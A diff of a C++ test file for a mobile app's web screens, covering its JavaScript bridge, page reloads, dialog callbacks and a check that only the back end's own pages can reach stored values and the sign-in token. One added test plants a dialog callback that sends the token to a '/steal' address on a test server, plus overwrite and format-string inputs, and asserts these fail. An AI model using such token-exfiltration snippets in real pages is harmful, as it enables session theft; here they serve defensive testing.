@@ -3,9 +3,11 @@
 
 #include "app/screens/tests/WebScreenFixture.h"
 #include "app/tools/SaveService.h"
+#include "platform/foundation/Console.h"
 #include "platform/uikit/UIActionSheet.h"
 #include "platform/uikit/UIAlertView.h"
 #include "refresh/PRRefreshHeader.h"
+#include "testsupport/LoopbackServer.h"
 
 namespace {
 
@@ -17,39 +19,35 @@ std::optional<std::string> storedString(const std::string& key) {
     return *value->asString();
 }
 
-TEST(DialogCallbackScript, PutsTheIndexInWithoutReadingThePageAsAFormat) {
-    const struct { const char* callback; long index; const char* script; } cases[] = {
-        {"pick(%@, %@)", 2, "pick(2, 2)"},
-        {"x('%d %s %n %1$@')", 1, "x('%d %s %n %1$@')"},
-        {"tail%", 3, "tail%"},
-        {"%%@", 4, "%@"},
-    };
-    for (const auto& c : cases) {
-        EXPECT_EQ(AppDialogCallbackScript(c.callback, c.index), c.script) << c.callback;
-    }
+bool until(const std::function<bool()>& done) {
+    return NSRunLoop::main().runUntil(done, WebScreenTest::kPageWait);
 }
 
 using WebScreens = WebScreenTest;
 
 TEST_F(WebScreens, BridgeCallsFromThePageOpenScreensOnTheMainQueue) {
-    struct Case {
+    // Afterwards: "main", or the top screen's title, whether it is a web screen ("bare" without a bar) and
+    // its page of the back end; whether the user is signed out.
+    const struct {
         const char* script;
-        size_t depth;       // screens on the stack afterwards
-        const char* title;  // of the top screen
-        bool webScreen;     // the top screen is a web screen opened by the main screen
-        bool hidesNav;
-        const char* page;  // the web screen's address (page of the back end)
-        bool signsOut;     // AccessToken is "" afterwards
+        const char* shown;
     } cases[] = {
-        {"openDetail()", 2, "Detail", true, false, "detail.html", false},
-        {"openDetailBare()", 2, "", true, true, "detail.html", false},
-        {"openSettings()", 2, "SettingViewController", false, false, "", false},
-        {"openSignIn()", 2, "LoginViewController", false, false, "", true},
-        {"signOut()", 2, "LoginViewController", false, false, "", true},
-        {"openNothing()", 1, "", false, false, "", false},
-        {"app.push('', 'quorvane://open?mode')", 1, "", false, false, "", false},
-        {"app.push('', 'quorvane://open?mode=9')", 1, "", false, false, "", false},
-        {"app.push('Files', 'ftp://example.com/')", 1, "", false, false, "", false},
+        {"openDetail()", "Detail web detail.html"},
+        {"openDetailBare()", " web bare detail.html"},
+        {"openSettings()", "SettingViewController"},
+        {"openSignIn()", "LoginViewController signed out"},
+        {"signOut()", "LoginViewController signed out"},
+        {"openNothing(); app.push('', 'quorvane://open?mode'); app.push('', 'quorvane://open?mode=9');"
+         "app.push('Files', 'ftp://example.com/')",
+         "main"},
+        {"openDialogs()", " web bare dialogs.html"},
+        // Only an address a screen can load is pushed.
+        {"app.pushWithUrl(''); app.pushWithUrl(null); app.pushWithUrl('ftp://example.com/');"
+         "app.pushWithUrl('http://'); app.pushWithUrl('detail.html')",
+         "main"},
+        // "sarnquil://" addresses are never loaded; "login" signs out.
+        {"location.href = 'sarnquil://elsewhere'", "main"},
+        {"location.href = 'sarnquil://login'", "LoginViewController signed out"},
     };
     showMainScreen();
     auto main = top();
@@ -58,154 +56,159 @@ TEST_F(WebScreens, BridgeCallsFromThePageOpenScreensOnTheMainQueue) {
         SaveService::setObject(Value("token-1"), kSaveServiceAccessTokenKey);
         top()->webView()->stringByEvaluatingJavaScriptFromString(c.script);
         EXPECT_EQ(navigation_->viewControllers().size(), 1u);  // not before the main queue turns
+        // A navigation reaches the screen once the page's timer has run.
+        until([&] { return !strstr(c.script, "sarnquil") || strstr(c.script, main->urlStr().c_str()); });
         settle();
-        ASSERT_EQ(navigation_->viewControllers().size(), c.depth);
         auto shown = navigation_->topViewController();
-        EXPECT_EQ(storedString(kSaveServiceAccessTokenKey), c.signsOut ? "" : "token-1");
-        if (c.depth > 1) {
-            EXPECT_EQ(shown->title(), c.title);
-            EXPECT_TRUE(shown->navigationItem()->leftBarButtonItem());  // the back button
-        }
         auto web = std::dynamic_pointer_cast<UrlMainViewController>(shown);
-        EXPECT_EQ(bool(web), c.webScreen);
-        if (web) {
-            EXPECT_EQ(web->isHideNav(), c.hidesNav);
-            EXPECT_EQ(navigation_->isNavigationBarHidden(), c.hidesNav);
-            EXPECT_EQ(web->urlString(), pageURL(c.page));
-            EXPECT_EQ(web->delegate(), std::static_pointer_cast<AppBaseDelegate>(main));
-        }
+        std::string seen = shown == main ? "main" : shown->title();
+        if (web)
+            seen += std::string(" web ") + (web->isHideNav() ? "bare " : "") +
+                    web->urlString().substr(pageURL("").size());
+        if (storedString(kSaveServiceAccessTokenKey) == "") seen += " signed out";
+        EXPECT_EQ(seen, c.shown);
+        EXPECT_EQ(bool(shown->navigationItem()->leftBarButtonItem()), shown != main);  // the back button
+        EXPECT_EQ(navigation_->isNavigationBarHidden(), !web || web->isHideNav());
+        EXPECT_TRUE(!web || web->delegate() == std::static_pointer_cast<AppBaseDelegate>(main));
         navigation_->popToRootViewControllerAnimated(Animated::No);
         settle();
+        EXPECT_EQ(main->webView()->documentURL(), pageURL("#/"));
     }
-    EXPECT_FALSE(main->navigationItem()->leftBarButtonItem());
-    EXPECT_TRUE(navigation_->isNavigationBarHidden());
 }
 
-TEST_F(WebScreens, GoingBackReloadsTheOpenerOnlyWhenThePageAskedForIt) {
-    struct Case {
+// A page reloads when asked (refresh, a pull, going back after setIsRefresh) and only then.
+TEST_F(WebScreens, PagesReloadOnlyWhenAsked) {
+    // `depth` screens are opened above the main one first, then the script runs and the finger pulls the
+    // page down or taps the back button; `reloaded` is the page reloaded, if any.
+    enum Finger { None, Pull, Back };
+    const struct {
         const char* name;
-        std::function<void(WebScreenTest&)> leave;
-        bool deeper;           // a third screen opened from the detail page first
-        const char* reloaded;  // the page reloaded by leaving, or nullptr
+        int depth;
+        const char* script;
+        Finger finger;
+        const char* reloaded;
     } cases[] = {
-        {"pop", [](WebScreenTest& t) { t.run("back()"); }, false, nullptr},
-        {"pop with refresh", [](WebScreenTest& t) { t.run("backAndRefresh()"); }, false, "/vqd_web/"},
-        {"back button with refresh",
-         [](WebScreenTest& t) {
-             t.run("app.setIsRefresh(true)");
-             t.top()->navigationItem()->leftBarButtonItem()->sendAction();
-             t.settle();
-         },
-         false, "/vqd_web/"},
-        {"popToRoot with refresh", [](WebScreenTest& t) { t.run("homeAndRefresh()"); }, true,
-         "/vqd_web/detail.html"},
+        {"refresh", 0, "reloadPage()", None, "/vqd_web/"},
+        {"pull", 0, "", Pull, "/vqd_web/"},
+        {"pull after stopSwipeRefresh", 0, "stopPull()", Pull, nullptr},
+        {"pop", 1, "back()", None, nullptr},
+        {"pop with refresh", 1, "backAndRefresh()", None, "/vqd_web/"},
+        {"back button with refresh", 1, "app.setIsRefresh(true)", Back, "/vqd_web/"},
+        {"popToRoot with refresh", 2, "homeAndRefresh()", None, "/vqd_web/detail.html"},
     };
     showMainScreen();
     auto main = top();
     for (const auto& c : cases) {
         SCOPED_TRACE(c.name);
-        run("openDetail()");
-        ASSERT_TRUE(waitForPage(top()));
-        auto detail = top();  // kept, so that a reload it is asked for runs even once it is popped
-        if (c.deeper) {
-            run("deeper()");
+        std::vector<BaseViewControllerPtr> opened;  // kept, so that a reload asked of a popped screen runs
+        for (const char* open : {"openDetail()", "deeper()"}) {
+            if (int(opened.size()) == c.depth) break;
+            auto opener = top();
+            run(open);
             ASSERT_TRUE(waitForPage(top()));
-            EXPECT_EQ(top()->delegate(), std::static_pointer_cast<AppBaseDelegate>(detail));
+            EXPECT_EQ(top()->delegate(), std::static_pointer_cast<AppBaseDelegate>(opener));
+            opened.push_back(top());
         }
-        const size_t mainHits = server_->hits("/vqd_web/");
-        const size_t detailHits = server_->hits("/vqd_web/detail.html");
-        c.leave(*this);
-        EXPECT_EQ(navigation_->viewControllers().size(), 1u);
-        if (c.reloaded) {
-            const size_t before = std::string(c.reloaded) == "/vqd_web/" ? mainHits : detailHits;
-            EXPECT_TRUE(waitForHits(c.reloaded, before + 1));
-        } else {
-            EXPECT_FALSE(main->webView()->isLoading());
-            EXPECT_EQ(server_->hits("/vqd_web/"), mainHits);
-            EXPECT_EQ(server_->hits("/vqd_web/detail.html"), detailHits);
-        }
-        ASSERT_TRUE(waitForPage(main));
-    }
-}
-
-TEST_F(WebScreens, RefreshAndPullReloadThePageUnlessPullingWasStopped) {
-    const auto pull = [](WebScreenTest& t) { t.top()->webView()->scrollView()->drag({0, 120}, 4); };
-    const struct { const char* name; std::function<void(WebScreenTest&)> act; bool reloads; } cases[] = {
-        {"refresh", [](WebScreenTest& t) { t.run("reloadPage()"); }, true},
-        {"pull", pull, true},
-        {"pull after stopSwipeRefresh", [&](WebScreenTest& t) { t.run("stopPull()"); pull(t); }, false},
-    };
-    showMainScreen();
-    auto scroll = top()->webView()->scrollView();
-    for (const auto& c : cases) {
-        SCOPED_TRACE(c.name);
-        const size_t hits = server_->hits("/vqd_web/");
-        c.act(*this);
+        const auto hits = [&](const char* path) {  // of the page, or of all pages
+            return path ? server_->hits(path)
+                        : server_->hits("/vqd_web/") + server_->hits("/vqd_web/detail.html");
+        };
+        const size_t before = hits(c.reloaded);
+        if (*c.script) run(c.script);
+        if (c.finger == Pull) top()->webView()->scrollView()->drag({0, 120}, 4);
+        if (c.finger == Back) top()->navigationItem()->leftBarButtonItem()->sendAction();
         settle();
-        if (c.reloads) {
-            EXPECT_TRUE(waitForHits("/vqd_web/", hits + 1));
-            ASSERT_TRUE(waitForPage(top()));
-        } else {
-            EXPECT_FALSE(top()->webView()->isLoading());
-            EXPECT_EQ(server_->hits("/vqd_web/"), hits);
-        }
-        ASSERT_TRUE(pr_header(scroll));
-        EXPECT_EQ(pr_header(scroll)->state(), PRRefreshState::Idle);
+        EXPECT_EQ(navigation_->viewControllers().size(), 1u);
+        // A reload would reach the server within a second.
+        EXPECT_EQ(
+            NSRunLoop::main().runUntil([&] { return hits(c.reloaded) > before; }, c.reloaded ? kPageWait : 1),
+            c.reloaded != nullptr);
+        ASSERT_TRUE(waitForPage(main));
+        EXPECT_EQ(pr_header(main->webView()->scrollView())->state(), PRRefreshState::Idle);
     }
 }
 
+// The token and the stored values serve the back end's own pages only: a page of another origin reads
+// nothing, writes nothing, cannot sign the user out and cannot have a dialog's answer run in the back end's
+// page it navigates to.
 TEST_F(WebScreens, StoredValuesAndTheTokenServeOnlyTheBackEndsOwnPages) {
     auto other = startDevServer();  // another origin: the same pages on another port
-    struct Case {
+    // The script runs in a page of the back end or of the other origin; `key` (if any) then holds `stored`.
+    const struct {
         bool foreign;
         const char* script;
         const char* result;
-        const char* key;     // checked in the store afterwards (nullptr: nothing to check)
-        const char* stored;  // its value there (nullptr: absent)
+        const char* key;
+        const char* stored;
     } cases[] = {
         {false, "String(app.getAccessToken())", "null", nullptr, nullptr},
         {false, "app.setWebCash('greeting', 'hello'); app.getWebCash('greeting')", "hello", "greeting",
          "hello"},
         {false, "app.setWebCash('a.b', '1'); app.getWebCash('a.b')", "1", "a.b", "1"},
-        {false, "app.setWebCash('AccessToken', 'tok'); String(app.getAccessToken())", "tok", "AccessToken",
-         "tok"},
+        {false, "app.setWebCash('AccessToken', 'tok')", "", "AccessToken", "tok"},
+        {false, "String(app.getAccessToken())", "tok", "AccessToken", "tok"},
         {true, "String(app.getAccessToken())", "null", "AccessToken", "tok"},
         {true, "app.setWebCash('AccessToken', 'evil'); app.getWebCash('AccessToken')", "", "AccessToken",
          "tok"},
         {true, "app.setWebCash('planted', 'x')", "", "planted", nullptr},
+        {true, "app.toLogin()", "", "AccessToken", "tok"},
+        {true, "location.href = 'sarnquil://login'", "sarnquil://login", nullptr, nullptr},
     };
     showMainScreen();
     auto main = top();
     run("app.pushWithUrl('" + other->url("/vqd_web/storage.html") + "')");
     auto foreign = top();
-    ASSERT_NE(foreign, main);
-    ASSERT_TRUE(waitForPage(foreign));
+    ASSERT_TRUE(foreign != main && waitForPage(foreign));
     for (const auto& c : cases) {
         SCOPED_TRACE(c.script);
         auto screen = c.foreign ? foreign : main;
         EXPECT_EQ(screen->webView()->stringByEvaluatingJavaScriptFromString(c.script), c.result);
+        settle();
         if (c.key) {
             EXPECT_EQ(storedString(c.key), c.stored ? std::optional<std::string>(c.stored) : std::nullopt);
         }
     }
+    ASSERT_TRUE(until([&] { return foreign->urlStr() == "sarnquil://login"; }));
+    settle();
+    EXPECT_EQ(storedString(kSaveServiceAccessTokenKey), "tok");
+    EXPECT_EQ(navigation_->viewControllers().size(), 2u);
+
+    // The foreign page's dialog is answered once its screen shows the back end's page: the answer is dropped.
+    Console::Capture capture;
+    run("app.alert('Win', '', 'No', 'Yes', \"new Image().src = '" + other->url("/steal") +
+        "?t=' + app.getAccessToken()\"); location.href = '" + pageURL("storage.html") + "'");
+    ASSERT_TRUE(until([&] { return foreign->webView()->documentURL() == pageURL("storage.html"); }));
+    ASSERT_TRUE(until([&] { return !foreign->webView()->isLoading(); }));
+    ASSERT_TRUE(UIDialogs::press(1));
+    settle();
+    EXPECT_EQ(run("String(app.getAccessToken())"), "tok");
+    EXPECT_EQ(other->hits("/steal"), 0u);
+    EXPECT_TRUE(capture.contains("dropped"));
 }
 
 TEST_F(WebScreens, ADialogClickRunsTheLatestCallbackInThePage) {
-    struct Case {
+    // The dialog as "title: buttons"; `presses` go in turn to the dialog then showing; `answer` is
+    // lastDialog + " " + lastChoice afterwards.
+    const struct {
         const char* ask;
-        std::vector<std::string> buttons;
-        std::vector<long> presses;  // in turn, each on the dialog then showing
-        const char* answer;         // lastDialog + " " + lastChoice afterwards
+        const char* dialog;
+        const char* presses;
+        const char* answer;
     } cases[] = {
-        {"askAlert()", {"Cancel", "Delete"}, {1}, "alert 1"},
-        {"askSheet()", {"Remove", "Copy link", "Cancel"}, {2}, "sheet 2"},
-        {"askQuietly()", {"Close", "OK"}, {1}, " null"},
+        {"askAlert()", "Delete draft: Cancel|Delete", "1", "alert 1"},
+        {"askSheet()", "Share: Remove|Copy link|Cancel", "2", "sheet 2"},
+        {"askQuietly()", "Notice: Close|OK", "1", " null"},
         {"app.alert('A', '', 'No', 'Yes', 'choose(\"first\", %@)');"
-         "app.alert('B', '', 'No', 'Yes', 'choose(\"second\", %@)')",
-         {"No", "Yes"},
-         {1, 0},
-         "second 0"},
-        {"app.alert('T', 'm', null, 'Yes', 'choose(\"nocancel\", %@)')", {"Yes"}, {0}, "nocancel 0"},
+         "app.alert('A', '', 'No', 'Yes', 'choose(\"second\", %@)')",
+         "A: No|Yes", "10", "second 0"},
+        {"app.alert('T', 'm', null, 'Yes', 'choose(\"nocancel\", %@)')", "T: Yes", "0", "nocancel 0"},
+        {"app.alert('T', 'm', null, null, 'choose(\"bare\", %@)')", "T: 确定", "0", "bare 0"},
+        {"app.actionSheet('S', null, null, null, 'choose(\"bare sheet\", %@)')", "S: 确定", "0",
+         "bare sheet 0"},
+        {"tip()", "提示: 确定", "0", " null"},
+        // The clicked index goes in for "%@"; the page's text is never read as a format.
+        {"app.alert('F', '', null, 'Go', 'choose(\"%%@ %d %s %n %1$@\", %@)')", "F: Go", "0",
+         "%@ %d %s %n %1$@ 0"},
     };
     showMainScreen();
     run("openDialogs()");
@@ -214,73 +217,36 @@ TEST_F(WebScreens, ADialogClickRunsTheLatestCallbackInThePage) {
         SCOPED_TRACE(c.ask);
         run("lastDialog = ''; lastChoice = null;");
         run(c.ask);
-        for (long index : c.presses) {
+        for (const char* press = c.presses; *press; ++press) {
             ASSERT_TRUE(UIDialogs::visible());
-            EXPECT_EQ(UIDialogs::buttonTitles(), c.buttons);
-            ASSERT_TRUE(UIDialogs::press(index));
+            std::string shown = UIDialogs::visible()->dialogTitle() + ":";
+            for (auto& title : UIDialogs::buttonTitles()) shown += (shown.back() == ':' ? " " : "|") + title;
+            EXPECT_EQ(shown, c.dialog);
+            ASSERT_TRUE(UIDialogs::press(*press - '0'));
             settle();
         }
         EXPECT_FALSE(UIDialogs::visible());
         EXPECT_EQ(run("lastDialog + ' ' + lastChoice"), c.answer);
     }
-    run("tip()");
-    ASSERT_TRUE(UIDialogs::visible());
-    EXPECT_EQ(UIDialogs::visible()->dialogTitle(), "提示");
-    EXPECT_EQ(UIDialogs::visible()->dialogMessage(), "Saved");
-    EXPECT_EQ(UIDialogs::buttonTitles(), std::vector<std::string>{"确定"});
 }
-
-TEST_F(WebScreens, SarnquilLinksAreNeverLoaded) {
-    const struct { const char* link; size_t depth; bool signsOut; } cases[] = {
-        {"sarnquil://login", 2, true},
-        {"sarnquil://elsewhere", 1, false},
-    };
-    showMainScreen();
-    auto main = top();
-    const std::string page = main->webView()->javaScriptContext()->pageURL();
-    for (const auto& c : cases) {
-        SCOPED_TRACE(c.link);
-        AppSandbox::clearDefaults();
-        ASSERT_TRUE(main->webView()->activateLink(c.link));
-        settle();
-        EXPECT_EQ(main->urlStr(), c.link);
-        EXPECT_EQ(navigation_->viewControllers().size(), c.depth);
-        EXPECT_EQ(storedString(kSaveServiceAccessTokenKey),
-                  c.signsOut ? std::optional<std::string>("") : std::nullopt);
-        EXPECT_FALSE(main->webView()->isLoading());
-        EXPECT_EQ(main->webView()->javaScriptContext()->pageURL(), page);
-        navigation_->popToRootViewControllerAnimated(Animated::No);
-        settle();
-    }
-}
-
-// Fetches that never answer: the page stays loading until its screen goes.
-struct StalledLoader : UIWebViewLoader {
-    int cancels = 0;
-    std::function<void()> load(const NSURLRequest&, Completion) override {
-        return [this] { ++cancels; };
-    }
-};
 
 TEST_F(WebScreens, AScreenClosedWhileItsPageLoadsTakesItsLoadOffTheHUD) {
-    auto loader = std::make_shared<StalledLoader>();
+    LoopbackServer stalled;
+    LoopbackReply never = LoopbackReply::text("");
+    never.delay = 60;
+    stalled.reply("/never", never);
     auto hud = THProgressHUD::shareInstancetype();
     std::vector<std::shared_ptr<UrlMainViewController>> screens;
     for (int i = 0; i < 3; ++i) {
-        auto screen = UrlMainViewController::create();
-        screen->setUrlString(pageURL("detail.html"));
-        screen->loadViewIfNeeded();
-        screen->webView()->setLoader(loader);
-        screens.push_back(screen);
+        screens.push_back(UrlMainViewController::create());
+        screens.back()->setUrlString(stalled.url("/never"));
+        screens.back()->loadViewIfNeeded();
     }
-    turn();
-    EXPECT_EQ(hud->loadingCount(), 3);
+    ASSERT_TRUE(until([&] { return hud->loadingCount() == 3; }));
     for (int left = 2; left >= 0; --left) {
         screens.pop_back();
         EXPECT_EQ(hud->loadingCount(), left);
     }
-    EXPECT_EQ(loader->cancels, 3);
-    EXPECT_EQ(server_->hits("/vqd_web/detail.html"), 0u);
 }
 
 }  // namespace
